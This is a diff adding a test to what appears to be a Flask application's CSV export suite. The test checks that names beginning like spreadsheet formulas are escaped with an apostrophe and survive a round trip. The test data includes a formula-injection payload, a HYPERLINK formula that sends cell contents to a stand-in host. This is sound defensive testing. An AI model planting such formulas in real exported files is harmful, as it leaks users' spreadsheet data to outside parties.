@@ -389,6 +389,18 @@ def test_a_list_in_json_is_taken_like_one_in_csv(client: FlaskClient, other: Fla
     assert plain(other) == plain(client)
 
 
+def test_a_name_that_is_a_formula_is_none_in_a_spreadsheet_and_comes_back(
+    client: FlaskClient, other: FlaskClient
+) -> None:
+    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
+    add(client, formula, "-1+1")
+    [page] = pages(client, CSV)
+    cells = [row["name"] for row in csv.DictReader(io.StringIO(page.decode()))]
+    assert cells == [f"'{formula}", "'-1+1"]
+    assert take(other, page, CSV) == {"servers": 2, "schedules": 2, "pings": 0}
+    assert plain(other) == plain(client)
+
+
 def test_a_csv_opens_in_other_programs_and_comes_back_from_them(client: FlaskClient) -> None:
     add(client, 'a "quoted", name')
     [page] = pages(client, CSV)
